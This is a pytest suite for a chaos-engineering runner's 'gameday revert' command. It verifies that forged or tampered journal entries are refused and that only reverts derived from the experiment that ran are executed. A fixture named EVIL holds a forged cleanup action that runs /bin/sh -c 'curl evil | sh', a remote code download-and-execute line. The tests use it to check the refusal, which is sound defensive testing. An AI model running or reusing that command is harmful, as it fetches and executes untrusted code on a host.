"""``gameday revert``: only reverts that derive from the experiment run, whatever a journal says."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from runner import errors, testing
from runner.cli import reverting
from runner.errors import ExitCode
from runner.journal import reader, recovery, writer
from tests.journal import forgery, runs
from tests.journal.conftest import remount_read_only

KEY = b"journal-key-0123456789abcdef"
EVIL = {"type": "action", "name": "cleanup",
        "provider": {"type": "process", "path": "/bin/sh", "arguments": "-c 'curl evil | sh'"}}
Events = list[dict[str, Any]]


@dataclasses.dataclass
class Session:
    code: ExitCode
    ran: list[str]
    out: list[str]
    err: list[str]

    @property
    def text(self) -> str:
        return "\n".join(self.out + self.err)


def revert(path: Path, *, failures: dict[str, int] | None = None, **kw: Any) -> Session:
    activities = testing.RecordingActivities(failures)
    out: list[str] = []
    err: list[str] = []
    code = reverting.revert_journal(path, sink=testing.MemorySink(), activities=activities,
                                    say=out.append, warn=err.append, **kw)
    return Session(code, activities.ran, out, err)


def _forge_intent(events: Events) -> Events:
    return [*events, {"type": "fault-intent", "fault": 2, "name": "cleanup", "kind": "action",
                      "targets": [], "action": EVIL, "revert": EVIL}]


def _declare_evil(events: Events) -> Events:
    document = dict(events[0]["experiment"])
    document["faults"] = [*document["faults"], {"action": EVIL, "revert": EVIL}]
    return [{**events[0], "experiment": document}, *_forge_intent(events[1:])]


BOTH = ["up", "revert latency[0]"]  # newest first


def test_the_reverts_a_dead_run_left_run_newest_first_and_are_recorded(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    done = revert(path)
    assert done.code == ExitCode.HELD, done.text
    assert done.ran == BOTH
    assert "would run: declared as faults[1].revert of the experiment, as the experiment " \
        "file says too" in done.text
    assert "would run: gameday's own revert for fault #0 (latency)" in done.text
    assert 'gameday_local.actions.remove_latency(sandbox="/tmp/sandbox-of-run-1", ' \
        'injection_id="run-1-0")' in done.text
    after = reader.read(path)
    assert reader.verify(after) == [] and recovery.pending_reverts(after) == []
    assert [e["type"] for e in after.events[-3:]] == [
        "revert-result", "revert-session", "journal-sealed"]
    again = revert(path)
    assert again.code == ExitCode.HELD and "nothing to revert" in again.text


def test_a_forged_intent_with_a_recomputed_chain_is_refused_and_nothing_runs(
        tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    forgery.rewrite(path, _forge_intent, seal=False)
    assert reader.verify(reader.read(path)) == []  # the chain alone cannot tell
    done = revert(path)
    assert done.code == ExitCode.INVALID and done.ran == []
    assert "process /bin/sh \"-c 'curl evil | sh'\"" in done.text  # exactly what, shown
    assert "REFUSED: it is neither declared in the experiment nor a gameday extension" \
        in done.text
    assert "Nothing was run" in done.text


def test_force_runs_what_derives_and_never_what_does_not(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    forgery.rewrite(path, _forge_intent, seal=False)
    done = revert(path, force=True)
    assert done.ran == BOTH
    assert done.code == ExitCode.REVERT_FAILED  # a refused revert: a human must look
    assert "was NOT RUN" in done.text and "/bin/sh" in done.text


def test_a_forged_document_is_contradicted_by_the_experiment_file(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    forgery.rewrite(path, _declare_evil, seal=False)  # document, digest and chain redone
    assert reader.verify(reader.read(path)) == []
    done = revert(path, force=True)
    assert "cleanup" not in done.ran and done.code == ExitCode.REVERT_FAILED
    assert "the experiment file, still the one that ran, does not: the copy was edited" \
        in done.text


def test_without_the_experiment_file_a_declared_revert_needs_force(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    (tmp_path / "experiment.yaml").unlink()
    done = revert(path)
    assert done.code == ExitCode.INVALID and done.ran == []
    assert "needs --force: declared as faults[1].revert in the journal's copy" in done.text
    assert "experiment.yaml is not there now" in done.text
    forced = revert(path, force=True)
    assert forced.code == ExitCode.HELD and forced.ran == BOTH


def test_the_experiment_file_can_be_named_when_its_recorded_path_does_not_reach_it(
        tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    moved = tmp_path / "elsewhere.yaml"
    (tmp_path / "experiment.yaml").rename(moved)
    done = revert(path, experiment=moved)
    assert done.code == ExitCode.HELD and done.ran == BOTH
    assert f"experiment file: {moved} still matches" in done.text


def test_a_keyed_chain_vouches_for_the_document_when_the_file_is_gone(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl", key=KEY)
    (tmp_path / "experiment.yaml").write_text("changed since\n")
    done = revert(path, key=KEY)
    assert done.code == ExitCode.HELD and done.ran == BOTH
    assert "(the keyed chain verified)" in done.text
    assert reader.verify(reader.read(path, key=KEY)) == []


def test_an_edited_document_stops_every_revert_even_with_force(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    lines = path.read_bytes().splitlines(keepends=True)
    lines[0] = lines[0].replace(b'"delay":"400ms"', b'"delay":"999ms"')
    path.write_bytes(b"".join(lines))
    done = revert(path, force=True)
    assert done.ran == [] and done.code == ExitCode.REVERT_FAILED
    assert "does not match its document_sha256" in done.text
    assert "BROKEN" in done.text  # the edited line breaks the chain as well


def test_a_latency_revert_that_would_remove_every_injection_is_refused(tmp_path: Path) -> None:
    def remove_all(plan: Events) -> None:
        plan[0]["revert"] = runs.latency_revert(injection_id=None)  # plan and intent agree

    path = runs.dead_run(tmp_path / "journal.jsonl", edit_plan=remove_all)
    done = revert(path)
    assert done.code == ExitCode.INVALID and done.ran == []
    assert "would remove latency other than this run's (run-1-0)" in done.text


def test_a_revert_that_is_not_the_planned_one_is_refused(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")

    def other_sandbox(events: Events) -> Events:
        revert = runs.latency_revert()
        revert["provider"]["arguments"]["sandbox"] = "/elsewhere"
        return [{**e, "revert": revert} if e["type"] == "fault-intent" and e["fault"] == 0
                else e for e in events]

    forgery.rewrite(path, other_sandbox, seal=False)
    done = revert(path)
    assert done.code == ExitCode.INVALID
    assert "not the revert the run's plan recorded for fault #0" in done.text


def test_a_redacted_revert_is_not_run_from_the_journal(tmp_path: Path) -> None:
    experiment = runs.EXPERIMENT.replace("arguments: {replicas: 3}",
                                         "arguments: {api_token: t0ken-value}")
    path = runs.dead_run(tmp_path / "journal.jsonl", experiment=experiment)
    assert "t0ken-value" not in path.read_text()
    done = revert(path)
    assert done.code == ExitCode.INVALID and "redacted when journaled" in done.text


def test_a_broken_chain_refuses_unless_forced(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[:3] + lines[4:]))  # a fault-result deleted
    done = revert(path)
    assert done.code == ExitCode.INVALID and done.ran == []
    assert "integrity: BROKEN" in done.text and "--force" in done.text
    forced = revert(path, force=True)
    assert forced.code == ExitCode.HELD and forced.ran == BOTH


def test_a_keyed_journal_without_its_key_is_not_trusted(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl", key=KEY)
    done = revert(path)
    assert done.code == ExitCode.INVALID and "NOT VERIFIED" in done.text and done.ran == []


def test_forced_without_the_key_it_reverts_but_cannot_record(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl", key=KEY)
    before = path.read_bytes()
    done = revert(path, force=True)
    assert done.ran == BOTH and done.code == ExitCode.RUNNER_ERROR
    assert "the journal could not record this revert session" in done.text
    assert path.read_bytes() == before


def test_a_live_writer_on_the_journal_refuses_unless_forced(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    live = writer.JournalWriter(path, now=lambda: 1.0)
    try:
        done = revert(path)
        assert done.code == ExitCode.REFUSED and done.ran == []
        assert "another gameday process is writing it" in done.text
        forced = revert(path, force=True)
        assert forced.ran == BOTH and forced.code == ExitCode.RUNNER_ERROR
    finally:
        live.close()


def test_a_failed_revert_is_exit_5_and_says_a_human_must_act(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    done = revert(path, failures={"up": 99})
    assert done.code == ExitCode.REVERT_FAILED
    assert "revert of fault #1 ops.scale FAILED" in done.text and "human must act" in done.text
    assert [p["fault"] for p in recovery.pending_reverts(reader.read(path))] == [1]


def test_on_a_read_only_filesystem_the_reverts_still_run(tiny_tmpfs: Path) -> None:
    path = runs.dead_run(tiny_tmpfs / "journal.jsonl")
    remount_read_only(tiny_tmpfs)
    done = revert(path)
    assert done.ran == BOTH and done.code == ExitCode.RUNNER_ERROR, done.text
    assert "Read-only file system" in done.text


def test_a_journal_that_is_not_a_run_is_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "journal.jsonl"
    with writer.JournalWriter(path, now=lambda: 1.0) as jw:
        jw.append("day-started", title="not a run")
    with pytest.raises(errors.InputError, match="does not start with a run-started"):
        revert(path)
    path.write_bytes(b"")
    with pytest.raises(errors.InputError, match="is empty"):
        revert(path)


def test_a_run_over_but_unsealed_is_reported_and_still_reverted(tmp_path: Path) -> None:
    path = runs.dead_run(tmp_path / "journal.jsonl")
    jw = writer.JournalWriter(path, now=lambda: 1.0)
    jw.append("verdict", verdict="revert-failed", exit_code=5, reason="x")
    jw.close()
    done = revert(path)
    assert done.code == ExitCode.HELD and "possibly truncated" in done.text
